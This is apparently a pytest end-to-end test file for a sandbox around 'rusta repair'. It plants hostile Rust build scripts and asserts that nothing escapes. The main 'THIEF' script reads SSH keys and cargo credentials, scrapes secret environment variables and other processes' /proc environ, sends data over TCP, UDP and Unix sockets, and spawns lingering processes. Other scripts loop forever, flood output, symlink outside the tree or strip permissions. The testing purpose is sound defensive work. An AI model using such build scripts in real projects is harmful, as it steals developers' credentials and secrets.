"""Build scripts that steal, call home, stay behind or never end, through ``rusta repair``, on every rung there is."""

from __future__ import annotations

import contextlib
import os
import re
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from e2e_support import BROKEN, Done, Program, Tree, gone, kill_leftovers, sandboxes, write_files

Lay = Callable[..., Path]
RUNGS = ("overlay", "bwrap-copy", "landlock")
SECRET = "correct-horse-battery-staple"

# It tries everything, and tells by an error of the compiler what it managed.
THIEF = r"""
use std::io::Write;
use std::net::{TcpStream, UdpSocket};
use std::os::unix::net::UnixStream;
use std::process::{Command, Stdio};
use std::{env, fs, path::PathBuf, time::Duration};

fn deed(report: &mut Vec<String>, name: &str, managed: Option<String>) {
    match managed {
        Some(what) => report.push(format!("{name} MANAGED {what}")),
        None => report.push(format!("{name} refused")),
    }
}

fn main() {
    let mut report = Vec::new();
    for path in [HOME_FILES] {
        let got = fs::read_to_string(path).ok();
        deed(&mut report, "read", got.map(|text| format!("{path}: {text}")));
    }
    for path in [HOME_FOLDERS] {
        let names = fs::read_dir(path).ok().map(|all| all.flatten().map(|e| e.path()).collect::<Vec<_>>());
        let names = names.filter(|names| !names.is_empty());
        deed(&mut report, "list", names.map(|names| format!("{path}: {names:?}")));
    }
    for path in [OUTSIDE_FILES] {
        let made = fs::File::create(path).and_then(|mut file| file.write_all(b"was here"));
        deed(&mut report, "write", made.ok().filter(|_| false).map(|_| path.to_string()));
    }
    let secrets: Vec<_> = env::vars().filter(|(name, _)| name.contains("SECRET")).collect();
    deed(&mut report, "environment", Some(format!("{secrets:?}")).filter(|_| !secrets.is_empty()));
    let mut others = Vec::new();
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        if let Ok(all) = fs::read(entry.path().join("environ")) {
            others.push(String::from_utf8_lossy(&all).into_owned());
        }
    }
    let found = others.into_iter().find(|all| all.contains("STOLEN_TOKEN"));
    deed(&mut report, "others", found);
    let address = "127.0.0.1:TCP_PORT".parse().unwrap();
    let tcp = TcpStream::connect_timeout(&address, Duration::from_secs(2)).and_then(|mut s| s.write_all(b"stolen"));
    deed(&mut report, "tcp", tcp.ok().map(|_| String::new()));
    let udp = UdpSocket::bind("127.0.0.1:0").and_then(|s| s.send_to(b"stolen", "127.0.0.1:UDP_PORT"));
    // With a loopback of its own the send may be accepted; what counts is that nobody hears it.
    report.push(format!("udp {}", if udp.is_ok() { "sent into the void" } else { "refused" }));
    let unix = UnixStream::connect("UNIX_PATH").and_then(|mut s| s.write_all(b"stolen"));
    deed(&mut report, "unix", unix.ok().map(|_| String::new()));
    for _ in 0..2 {
        let child = Command::new("setsid").args(["sleep", "SLEEP"])
            .stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
        report.push(format!("survivor {}", child.is_ok()));
    }
    let _ = fs::write("src/planted.rs", "planted");
    let _ = fs::write("Cargo.toml", "[package]\n");
    let text = report.join(" | ").replace('\\', "/").replace('"', "'");
    let out = PathBuf::from(env::var("OUT_DIR").unwrap()).join("report.rs");
    fs::write(out, format!("compile_error!(\"REPORT {text} END\");")).unwrap();
}
"""
REPORTING = 'include!(concat!(env!("OUT_DIR"), "/report.rs"));\n'

LOOP = "fn main() { loop { std::hint::spin_loop(); } }\n"
FLOOD = """use std::io::Write;
fn main() {
    let line = [b'x'; 65536];
    let mut out = std::io::stdout().lock();
    for _ in 0..2000 { out.write_all(&line).unwrap(); out.write_all(b"\\n").unwrap(); }
    panic!("enough");
}
"""
LINK = """fn main() {
    let _ = std::fs::remove_file("src/lib.rs");
    std::os::unix::fs::symlink("OUTSIDE/lib.rs", "src/lib.rs").unwrap();
}
"""
LINKED_FOLDER = """fn main() {
    let _ = std::fs::rename("src", "src.old");
    std::os::unix::fs::symlink("OUTSIDE", "src").unwrap();
}
"""
FIFO = """fn main() {
    let made = std::process::Command::new("mkfifo").args(["src/pipe.rs", "tests.pipe"]).status();
    assert!(made.unwrap().success());
}
"""
SHUT = """use std::os::unix::fs::PermissionsExt;
fn main() {
    for name in ["src/lib.rs", "src", "."] {
        let _ = std::fs::set_permissions(name, std::fs::Permissions::from_mode(0));
    }
}
"""
# (script, exit code, words that say what happened)
TROUBLE: dict[str, tuple[str, int, str]] = {
    "loops": (LOOP, 10, r"cargo check did not end within \d+ s"),
    "floods": (FLOOD, 10, r"custom build command for `demo v0\.1\.0`: .*panicked at build.rs.* enough"),
    "links-a-file": (LINK, 10, r"couldn't read `src/lib\.rs`"),
    # An overlay does not let it rename a folder of the tree; elsewhere its source is gone.
    "links-a-folder": (LINKED_FOLDER, 10, r"panicked at build\.rs|couldn't read `src/lib\.rs`"),
    "leaves-a-fifo": (FIFO, 0, r"cargo test: 1 passed"),
    "shuts-everything": (SHUT, 10, r"Permission denied|could not execute process"),
}
QUICK = ("loops", "links-a-file")


@dataclass
class Ground:
    """A machine to attack: a home with secrets, listeners, a folder beside the crate."""

    rusta: Program
    root: Path
    home: Path
    outside: Path
    listeners: dict[str, socket.socket]
    mark: str

    def script(self, text: str) -> str:
        unix = self.home / "agent.sock"
        names = {
            "HOME_FILES": [self.home / ".ssh/id_rsa", self.home / ".cargo/credentials.toml", self.outside / "lib.rs"],
            "HOME_FOLDERS": [self.home, self.home / ".ssh", self.rusta.home / "devlog", self.outside],
            "OUTSIDE_FILES": [self.home / "pwned", self.outside / "pwned", self.rusta.home / "pwned"],
        }  # fmt: skip
        for name, paths in names.items():
            text = text.replace(name, ", ".join(f'"{path}"' for path in paths))
        text = text.replace("TCP_PORT", str(self.listeners["tcp"].getsockname()[1]))
        text = text.replace("UDP_PORT", str(self.listeners["udp"].getsockname()[1]))
        return text.replace("UNIX_PATH", str(unix)).replace("OUTSIDE", str(self.outside)).replace("SLEEP", self.mark)

    def on(self, rung: str) -> Ground:
        """The same, where only one rung may be used."""
        self.rusta = self.rusta.with_env(RUSTA_SANDBOX=rung)
        return self

    def attack(self, *arguments: str) -> Done:
        """Run ``rusta`` on the crate; afterwards nothing has got out and nothing is left."""
        watched = [Tree(path) for path in (self.root, self.home, self.outside)]
        done = self.rusta(*arguments)
        assert [tree.difference() for tree in watched] == [[], [], []]
        for name in ("tcp", "unix"):
            with pytest.raises(BlockingIOError):
                self.listeners[name].accept()
        with pytest.raises(BlockingIOError):
            self.listeners["udp"].recv(1)
        assert SECRET not in done.out + done.err
        for path in [*self.rusta.home.rglob("*"), *(self.rusta.folder / "tmp").rglob("*")]:
            if path.is_file():
                assert SECRET.encode() not in path.read_bytes(), f"{path} holds the secret"
        assert sandboxes(self.rusta.home) == []
        assert list((self.rusta.folder / "tmp").iterdir()) == []
        assert gone(self.mark) == {}, "the survivor survived"
        assert gone(str(self.root)) == {}
        (episode,) = self.rusta.episodes()
        self.rusta("devlog", "verify", code=0)
        if done.code not in (3, 130):
            assert self.rusta.entries(episode, "closed") or self.rusta.entries(episode, "ended")
        return done


@pytest.fixture
def ground(fresh: Program, crate: Lay, tmp_path: Path) -> Iterator[Ground]:
    home, outside = tmp_path / "user", tmp_path / "outside"
    write_files(
        home,
        {
            ".ssh/id_rsa": SECRET,
            ".cargo/credentials.toml": f'token = "{SECRET}"\n',
            "diary": SECRET,
        },
    )
    write_files(outside, {"lib.rs": f"// {SECRET}\n{BROKEN}"})
    (tmp_path / "tmp").mkdir()
    mark = f"7{os.getpid()}{abs(hash(str(tmp_path))) % 10**6:06}"
    rustup = os.environ.get("RUSTUP_HOME", str(Path.home() / ".rustup"))
    rusta = fresh.with_env(
        HOME=str(home), CARGO_HOME=str(home / ".cargo"), RUSTUP_HOME=rustup, TMPDIR=str(tmp_path / "tmp"),
        AWS_SECRET_ACCESS_KEY=SECRET, STOLEN_TOKEN=SECRET,
    )  # fmt: skip
    with contextlib.ExitStack() as stack:
        tcp = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        unix = stack.enter_context(socket.socket(socket.AF_UNIX))
        udp.bind(("127.0.0.1", 0))
        unix.bind(str(home / "agent.sock"))
        unix.listen()
        listeners = {"tcp": tcp, "udp": udp, "unix": unix}
        for listener in listeners.values():
            listener.setblocking(False)
        yield Ground(rusta, crate({"src/lib.rs": BROKEN}), home, outside, listeners, mark)
    kill_leftovers(mark)


@pytest.fixture(scope="session")
def rungs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bool]:
    """Which rungs this machine has, as the doctor says."""
    folder = tmp_path_factory.mktemp("doctor")
    told = Program(folder / "home", folder)("doctor", "--json").told
    (check,) = [check for check in told["checks"] if check["name"] == "sandbox"]
    return {rung["rung"]: rung["ok"] for rung in check["detail"]["rungs"]}


@pytest.fixture(params=RUNGS)
def rung(request: pytest.FixtureRequest, rungs: dict[str, bool]) -> str:
    name: str = request.param
    if not rungs.get(name):
        pytest.skip(f"the rung {name} does not work on this machine")
    return name


def test_a_thief_gets_nothing_out(ground: Ground, rung: str) -> None:
    """Files, folders, secrets of the environment, sockets, survivors: all tried, and told by itself."""
    write_files(ground.root, {"build.rs": ground.script(THIEF), "src/lib.rs": REPORTING + BROKEN})
    done = ground.on(rung).attack("repair", str(ground.root), "--json")
    assert done.code == 10, done.text
    found = re.search(r"REPORT (.*?) END", done.told["summary"] + str(done.told["data"]))
    assert found is not None, "the build script did not run"
    deeds = found[1].split(" | ")
    assert not [deed for deed in deeds if "MANAGED" in deed], deeds
    assert sum(deed.startswith("read refused") for deed in deeds) == 3
    assert {deed.split()[0] for deed in deeds} >= {
        "list",
        "write",
        "environment",
        "others",
        "tcp",
        "unix",
        "survivor",
    }


@pytest.mark.parametrize("kind", QUICK)
def test_a_troublemaker_is_an_observation(ground: Ground, kind: str) -> None:
    cause_trouble(ground, kind)


@pytest.mark.slow
@pytest.mark.parametrize("kind", TROUBLE)
def test_every_troublemaker_on_every_rung(ground: Ground, rung: str, kind: str) -> None:
    cause_trouble(ground.on(rung), kind)


def cause_trouble(ground: Ground, kind: str) -> None:
    script, code, words = TROUBLE[kind]
    write_files(ground.root, {"build.rs": ground.script(script)})
    done = ground.attack("repair", str(ground.root), "--budget", "wall=8" if code else "wall=600")
    assert done.code == code, done.text
    assert re.search(words, done.out), done.text
    assert len(done.out.splitlines()[0]) < 700, done.text
    # The next episode on the crate is not hindered by what this one left.
    (ground.root / "build.rs").unlink()
    again = ground.rusta.json("repair", ground.root)
    assert again["outcome"] == "repaired"
